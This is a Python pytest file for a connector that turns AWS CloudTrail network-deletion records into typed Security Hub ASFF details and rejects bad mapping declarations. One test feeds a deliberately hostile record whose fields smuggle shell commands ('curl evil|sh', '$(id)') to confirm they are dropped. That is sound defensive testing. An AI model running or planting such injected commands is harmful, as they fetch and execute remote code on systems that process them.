"""Typed ASFF target ``Details`` declared in the mapping files (connector/mapping/details.py):
only what the record (or the enrichment) says, in botocore's types, never a placeholder; checked
against botocore's model when the mapping loads."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from connector.errors import MappingFileError
from connector.events import parse_event
from connector.factory import FindingFactory
from connector.mapping import build_finding, load_mappings
from connector.paths import mappings_dir
from connector.render.asff import render_asff
from connector.validate import asff_errors
from tests.support.records import make_record
from tests.unit.test_enrich import ACL, enrich_nacl

MAPPINGS = load_mappings()
FACTORY = FindingFactory.load()


def target_details(record: dict[str, Any]) -> dict[str, Any] | None:
    document = next(r.document for r in FACTORY.render(record) if r.format == "asff")
    assert asff_errors(document) == []
    target = next(r for r in document["Resources"] if r["ResourceRole"] == "Target")
    details: dict[str, Any] | None = target.get("Details")
    return details


def test_each_deleted_resource_carries_its_typed_details_with_the_records_ids() -> None:
    assert target_details(make_record("DeleteNetworkInterface", requestParameters={"networkInterfaceId": "eni-0a1b2c3d4e5f60718"})) == {
        "AwsEc2NetworkInterface": {"NetworkInterfaceId": "eni-0a1b2c3d4e5f60718"}}
    assert target_details(make_record("DeleteVpcPeeringConnection", requestParameters={"vpcPeeringConnectionId": "pcx-0fedcba9876543210"})) == {
        "AwsEc2VpcPeeringConnection": {"VpcPeeringConnectionId": "pcx-0fedcba9876543210"}}
    # The removed entry as the record names it: number (an integer) and direction (a boolean).
    assert target_details(make_record("DeleteNetworkAclEntry", requestParameters={"networkAclId": ACL, "ruleNumber": 100, "egress": False})) == {
        "AwsEc2NetworkAcl": {"NetworkAclId": ACL, "Entries": [{"RuleNumber": 100, "Egress": False}]}}


def test_a_value_the_record_lacks_or_garbles_is_left_out_not_invented() -> None:
    without_egress = make_record("DeleteNetworkAclEntry", requestParameters={"networkAclId": ACL, "ruleNumber": 7})
    assert target_details(without_egress) == {"AwsEc2NetworkAcl": {"NetworkAclId": ACL, "Entries": [{"RuleNumber": 7}]}}
    hostile = make_record("DeleteNetworkAclEntry", errorCode="Client.InvalidNetworkAclID.NotFound",
                          requestParameters={"networkAclId": "acl-1; curl evil|sh", "ruleNumber": "1 $(id)", "egress": "yes"})
    details = target_details(hostile)
    assert details is None  # nothing in it is well-formed: no Details rather than wrong ones


def test_the_enrichment_adds_the_vpc_and_the_removed_rule_as_config_recorded_it() -> None:
    finding, _ = enrich_nacl({"ruleNumber": 110, "protocol": "6", "ruleAction": "deny", "egress": True,
                              "cidrBlock": "0.0.0.0/0", "portRange": {"from": 22, "to": 22}})
    document = render_asff(finding)
    assert asff_errors(document) == []
    acl = document["Resources"][0]["Details"]["AwsEc2NetworkAcl"]
    assert acl == {"NetworkAclId": ACL, "VpcId": "vpc-0aaaaaaaaaaaaaaa1", "Entries": [{
        "RuleNumber": 110, "Egress": True, "Protocol": "6", "RuleAction": "deny", "CidrBlock": "0.0.0.0/0",
        "PortRange": {"From": 22, "To": 22}}]}


def test_other_types_keep_their_string_details() -> None:
    event = parse_event(make_record("DetachInternetGateway"))
    finding = build_finding(event, MAPPINGS["DetachInternetGateway"])
    resources = render_asff(finding)["Resources"]
    assert resources[0]["Details"]["Other"]["InternetGatewayId"].startswith("igw-")
    assert resources[1]["Type"] == "AwsEc2Vpc" and "Details" not in resources[1]  # its model has no VpcId


def broken(tmp_path: Path, details: Any, asff_type: str = "AwsEc2NetworkAcl") -> Path:
    target = tmp_path / "mappings"
    shutil.copytree(mappings_dir(), target)
    path = target / "DeleteNetworkAclEntry.yaml"
    doc = yaml.safe_load(path.read_text())
    doc["event"]["resources"][0].update(asff_type=asff_type, asff_details=details)
    if asff_type == "Other":
        doc["event"]["resources"][0]["details_other"] = {"X": "{networkAclId}"}
    path.write_text(yaml.safe_dump(doc))
    return target


@pytest.mark.parametrize(("details", "where", "reason"), [
    ({"NetworkAclID": "{networkAclId}"}, "$.event.resources[0].asff_details.NetworkAclID", "has no member"),
    ({"VpcId": "{principal}"}, "$.event.resources[0].asff_details.VpcId", "has no format"),
    ({"Entries": {"RuleNumber": "{ruleNumber}"}}, "$.event.resources[0].asff_details.Entries", "is a list"),
    ({"NetworkAclId": "acl-{networkAclId}"}, "$.event.resources[0].asff_details.NetworkAclId", "not valid under any"),
    ({"Entries": [{"PortRange": "{portFrom}"}]}, "$.event.resources[0].asff_details.Entries[0].PortRange", "structure"),
])
def test_a_wrong_declaration_stops_the_load_with_its_path(tmp_path: Path, details: Any, where: str, reason: str) -> None:
    with pytest.raises(MappingFileError) as info:
        load_mappings(broken(tmp_path, details))
    assert info.value.path.startswith(where), str(info.value)
    assert reason in info.value.reason, str(info.value)


def test_typed_details_are_refused_for_other(tmp_path: Path) -> None:
    with pytest.raises(MappingFileError, match="should not be valid"):
        load_mappings(broken(tmp_path, {"NetworkAclId": "{networkAclId}"}, asff_type="Other"))
